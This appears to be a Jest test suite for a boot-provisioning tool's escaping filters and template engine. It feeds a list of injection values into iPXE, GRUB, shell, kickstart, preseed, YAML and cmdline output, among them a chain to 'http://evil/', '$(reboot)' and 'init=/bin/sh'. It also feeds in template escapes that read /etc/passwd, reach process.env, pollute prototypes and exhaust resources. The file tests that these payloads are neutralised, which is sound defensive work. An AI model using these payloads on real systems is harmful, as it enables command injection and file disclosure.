import { describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { parse as parseYaml } from 'yaml';
import { cmdline, grub, ipxe, kickstart, preseed, sh, TEMPLATE_CONTEXTS, yaml, type TemplateContext } from '../../../src/bootenvs/filters.js';
import { compileTemplate } from '../../../src/bootenvs/template.js';

/** attack 23: what a name, a tag or a fact could be. */
const HOSTILE = [
  'a\n#!ipxe\nchain http://evil/',
  'a || chain http://evil',
  '`reboot`',
  '$(reboot)',
  '${net0/mac}',
  'a"b',
  "a'b'; reboot; '",
  'a\n%pre\nreboot\n%end',
  'a\\',
  'a\r\nd-i preseed/early_command string reboot',
  'a\u2028b\u0085c\u0000d',
  '{{ node.name }}',
  '!!js/function x',
  '- *anchor',
  '# comment',
  'x init=/bin/sh',
];

describe('escaping filters', () => {
  it.each(HOSTILE)('sh keeps %j one word', (value) => {
    const printed = execFileSync('/bin/sh', ['-c', `printf %s ${sh(value).text}`]).toString();
    // eslint-disable-next-line no-control-regex
    expect(printed).toBe(value.replaceAll(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]+/g, ' '));
  });

  it.each(HOSTILE)('yaml keeps %j one string', (value) => {
    const text = yaml(value).text;
    expect(text).not.toMatch(/[\n\r\u0085\u2028]/);
    expect(parseYaml(`key: ${text}`)).toEqual({ key: value });
  });

  it.each(HOSTILE)('grub keeps %j one word', (value) => {
    expect(grub(value).text).toMatch(/^'[^'\n\r]*'(?:\\''[^'\n\r]*')*$/);
  });

  it.each(HOSTILE)('ipxe makes %j inert on one line', (value) => {
    expect(ipxe(value).text).not.toMatch(/[\n\r|&$#`"\\{}<>]/);
  });

  it.each(HOSTILE)('cmdline makes %j one word', (value) => {
    expect(cmdline(value).text).toMatch(/^[A-Za-z0-9._:/@,+=?%~-]*$/);
  });

  it.each(HOSTILE)('preseed keeps %j on its line', (value) => {
    const text = preseed(value).text;
    expect(text).not.toMatch(/[\n\r]/);
    expect(text.endsWith('\\')).toBe(false);
  });

  it.each(HOSTILE)('kickstart keeps %j one argument', (value) => {
    const text = kickstart(value).text;
    expect(text).toMatch(/^"(?:[^"\\\n\r]|\\["\\])*"$/);
  });

  it('lets a chain of filters work on what the inner one made', () => {
    expect(preseed(sh("it's")).text).toBe(`'it'\\''s'`);
  });
});

describe('templates', () => {
  it.each(HOSTILE.flatMap((value) => TEMPLATE_CONTEXTS.map((format) => [format, value] as const)))(
    'attack 23: %s writes %j inert without a filter',
    (format, value) => {
      expect(compileTemplate('{{ value }}', format)({ value })).toMatch(/^[A-Za-z0-9._:/@,+_-]*$/);
    },
  );

  it('attack 23: the format of the file decides, and takes no filter of another', () => {
    const format = (text: string, of: TemplateContext) => compileTemplate(text, of)({ a: '$(id)' });
    expect(format('{{ a | sh }}', 'kickstart')).toBe("'$(id)'");
    expect(() => format('{{ a | yaml }}', 'sh')).toThrow(/the filter yaml is none for a file of format sh: use sh/);
    expect(() => format('{{ a | kickstart }}', 'preseed')).toThrow(/use preseed or sh/);
    expect(() => format('{{ a | sh }}', 'cmdline')).toThrow(/use cmdline/);
  });

  it('writes harmless values as they are', () => {
    expect(compileTemplate('{{ a }} {{ b }}', 'sh')({ a: 'http://192.0.2.1:8191/boot', b: 7 })).toBe('http://192.0.2.1:8191/boot 7');
  });

  it.each([
    ['an undefined variable', '{{ nothing }}'],
    ['an unknown filter', '{{ a | shell }}'],
    ['a way round the escaping', '{{ a | raw }}'],
    ['the constructor', '{{ a.constructor }}'],
    ['the constructor of a function', '{{ o.constructor.constructor }}'],
    ['the prototype', '{{ o.__proto__.polluted }}'],
    ['the process', '{{ process.env.PATH }}'],
    ['require', '{{ require }}'],
    ['the global object', '{{ globalThis }}'],
    ['a file', '{% include "/etc/passwd" %}'],
    ['a relative file', '{% render "../../../etc/passwd" %}'],
    ['a layout', '{% layout "file:///etc/passwd" %}'],
    ['a template named by a URL', '{% include "http://192.0.2.1/x" %}'],
    ['an endless loop', '{% for x in (1..100000000) %}{{ x }}{% endfor %}'],
    ['loops in loops', '{% for x in (1..3000) %}{% for y in (1..3000) %}{% for z in (1..3000) %}{{ z }}{% endfor %}{% endfor %}{% endfor %}'],
    ['a text that doubles', `{% assign t = "xxxxxxxxxx" %}${'{% assign t = t | append: t %}'.repeat(40)}{{ t }}`],
    ['more than a file may have', '{% for x in (1..400000) %}{{ a }}{{ a }}{% endfor %}'],
    ['a whole list', '{{ l }}'],
  ])('attack 24: refuses %s, in time', (_what, text) => {
    const from = performance.now();
    expect(() => compileTemplate(text, 'sh')({ a: 'a b', o: {}, l: ['x'] })).toThrow();
    expect(performance.now() - from).toBeLessThan(5_000);
  });

  it('attack 24: refuses a template that is too long', () => {
    expect(() => compileTemplate('x'.repeat(200_001), 'sh')).toThrow();
  });
});
